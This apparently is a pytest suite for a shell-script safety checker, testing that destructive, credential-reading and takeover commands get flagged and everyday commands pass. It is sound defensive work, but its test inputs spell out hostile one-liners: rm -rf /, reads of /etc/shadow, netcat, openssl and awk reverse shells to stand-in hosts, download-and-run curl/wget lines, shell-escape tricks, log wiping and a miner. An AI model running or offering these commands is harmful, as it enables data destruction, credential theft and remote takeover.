"""Shell scripts: what destroys, leaks, stays or takes over fails, however it is written."""

import pytest
from tests.corpora import code_shell as corpus

from qwed.domain.findings import Status
from qwed.engines.code import inspect_shell


def rules(text):
    return [problem.rule for problem in inspect_shell(text).problems]


@pytest.mark.parametrize("text", corpus.HARMFUL)
def test_a_harmful_script_fails_as_forbidden(text):
    assert inspect_shell(text).harms


@pytest.mark.parametrize("text", corpus.HARMLESS)
def test_an_everyday_command_raises_no_alarm(text):
    assert inspect_shell(text).status is Status.VERIFIED, rules(text)


@pytest.mark.parametrize("text", corpus.UNDECIDABLE)
def test_what_depends_on_an_expansion_nobody_knows_is_uncertain(text):
    assert inspect_shell(text).status is Status.UNCERTAIN, rules(text)


@pytest.mark.parametrize("text", corpus.PURE)
def test_a_script_that_only_prints_is_pure(text):
    assert inspect_shell(text).pure


@pytest.mark.parametrize(
    "text", ["while :; do echo x; done", "cat x", "echo x > y", "make", "echo $(date; curl x)"]
)
def test_a_script_that_may_not_end_or_reaches_outside_is_not_pure(text):
    assert not inspect_shell(text).pure


def test_every_spelling_of_a_recursive_deletion_is_found():
    missed = [text for text in corpus.deletions() if not inspect_shell(text).harms]

    assert missed == []


@pytest.mark.parametrize(
    "command", ["rm -rf /", "cat /etc/shadow", "nc -e /bin/sh 10.0.0.1 99", "chmod -R 777 /etc", "useradd x"]
)
def test_every_encoding_of_a_harmful_command_is_read_through(command):
    for text in corpus.encoded(command):
        assert inspect_shell(text).harms, text


@pytest.mark.parametrize("command", ["ls -la", "git status", "echo done"])
def test_an_encoded_harmless_command_is_verified(command):
    for text in corpus.encoded(command):
        assert inspect_shell(text).status is Status.VERIFIED, (text, rules(text))


def test_a_problem_names_its_line():
    (problem,) = inspect_shell("ls\ncd src\nrm -rf /etc\n").problems

    assert (problem.rule, problem.line, problem.text) == ("destructive-command", 3, "rm -rf /etc")


def test_code_of_another_language_is_inspected_by_its_own_inspector():
    (problem,) = inspect_shell("python3 -c 'import pickle; pickle.loads(input())'").problems

    assert problem.rule == "unsafe-deserialisation"
    assert problem.flow[0].startswith("line 1: python3 -c")


def test_a_script_written_and_then_run_is_read():
    assert "destructive-command" in rules("printf 'rm -rf /' > a\nsh a\n")
    assert rules("printf 'ls' > a\nsh a\n") == []


def test_a_variable_set_in_one_branch_is_known_no_longer():
    assert inspect_shell("x=ls\nif true; then x=pwd; fi\n$x\n").status is Status.UNCERTAIN


@pytest.mark.parametrize(
    "before", ["a | b | c -c", "export A=1", "unset B", "ls -la", "grep -c x y | sort | uniq -c"]
)
@pytest.mark.parametrize("harmful", ["sh <<X\nrm -rf /\nX", "\\rm -rf ~", "cat > a <<X\nrm -rf /\nX\nsh a"])
def test_a_line_that_the_grammar_reads_on_from_the_one_before_is_still_seen(before, harmful):
    assert inspect_shell(before + "\n" + harmful).harms


def test_text_that_does_not_parse_is_malformed():
    verdict = inspect_shell("if true; then")

    assert verdict.status is Status.FAILED
    assert verdict.malformed == "line 1: unexpected text"


def test_our_own_marks_in_the_text_change_nothing():
    assert inspect_shell("echo \ue000\ue001").status is Status.VERIFIED
    assert inspect_shell("rm -rf / \ue000").harms


@pytest.mark.parametrize(
    "text",
    [
        "find src -exec /bin/bash -p \\;",
        "ionice -c 2 /bin/sh",
        "setarch x86_64 /bin/dash",
        "ruby -e 'exec \"/bin/sh\"'",
        "lua -e \"os.execute('/bin/bash')\"",
        "gawk 'BEGIN { system(\"/bin/sh\") }'",
        "python3 -c 'import os; os.system(\"/bin/bash\")'",
        "tar -xf a.tar -I '/bin/sh -i'",
        "zip a.zip b.txt -T -TT 'sh -i #'",
        "vim -c ':!bash'",
        "ed notes.txt <<< '!/bin/sh'",
        "man -P '/bin/sh -i' ls",
        "expect -c 'spawn /bin/sh; interact'",
        "sort --compress-program=/bin/sh big.txt",
        "tmux new -d '/bin/bash -i'",
        "PAGER='sh -c \"exec sh 0<&1\"' git -p help",
        "env bash -i",
    ],
)
def test_a_shell_that_another_program_starts_is_a_way_out(text):
    assert "spawns-a-shell" in rules(text)
    assert inspect_shell(text).harms


@pytest.mark.parametrize("text", ["bash", "exec zsh", "docker exec -it web bash", "! /bin/sh"])
def test_a_shell_somebody_may_want_to_type_into_is_uncertain(text):
    assert inspect_shell(text).status is Status.UNCERTAIN, rules(text)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("find /srv -type f -print0 | xargs -0 rm -f", "destructive-command"),
        ("find / -name id_ed25519", "reads-sensitive-file"),
        ("grep -rn passwd /home /etc", "reads-sensitive-file"),
        ("perl -e 'unlink \"/etc/hosts\"'", "destructive-command"),
        ("killall -9 rsyslogd", "destructive-command"),
        ("pkill -u root", "destructive-command"),
        ("journalctl --vacuum-size=1K", "covers-tracks"),
        ("./worker -o stratum+tcp://pool.example:4444", "mines-currency"),
        ("hashcat -m 0 hashes.txt", "attack-tool"),
        ("python3 -m http.server --directory /", "exfiltration"),
        ("npm install http://mirror.example/a.tgz", "download-and-run"),
        ("wget http://a.example/run -P /tmp && sh /tmp/run", "download-and-run"),
        ('python3 -c "$(curl -s http://a.example/b.py)"', "download-and-run"),
        ("curl --unix-socket /var/run/docker.sock http://x/info", "privilege"),
        ("install -m 4755 helper bin/helper", "privilege"),
        ("parallel ::: 'rm -rf /'", "destructive-command"),
        ("script -qc 'rm -rf /' /dev/null", "destructive-command"),
        ("docker exec db rm -rf /", "destructive-command"),
        ("sh -i < /tmp/p 2>&1 | openssl s_client -quiet -connect a.example:9 > /tmp/p", "reverse-shell"),
        (
            "awk 'BEGIN { s = \"/inet/tcp/0/a.example/9\"; while ((s |& getline c) > 0) print c }'",
            "reverse-shell",
        ),
        ("xterm -display a.example:1", "reverse-shell"),
        ("lua5.4 -e 'os.execute(\"rm -rf /\")'", "destructive-command"),
        ("setfacl -m u:a:rwx /etc", "privilege"),
        ("ip route add default via 10.0.0.9", "privilege"),
    ],
)
def test_what_a_command_reaches_is_named(text, rule):
    assert rule in rules(text)
    assert inspect_shell(text).harms


@pytest.mark.parametrize(
    "text",
    [
        "find . -name '*.bak' | xargs rm -f",
        "grep -rn password src/",
        "killall node",
        "pkill -f worker.py",
        "tar -I zstd -xf a.tar.zst",
        "less notes.md",
        "EDITOR=vim git commit",
        "export LESSOPEN='|-xz -dc -- %s'",
        "docker exec web nginx -s reload",
        "kubectl exec deploy/api -- env",
        "ip addr show",
        "journalctl -u nginx",
        "ldd /bin/bash",
        "npm install https://registry.example/a.tgz",
        "php -S localhost:8000",
        "install -m 755 app bin/app",
    ],
)
def test_the_same_programs_do_everyday_work(text):
    assert inspect_shell(text).status is Status.VERIFIED, rules(text)
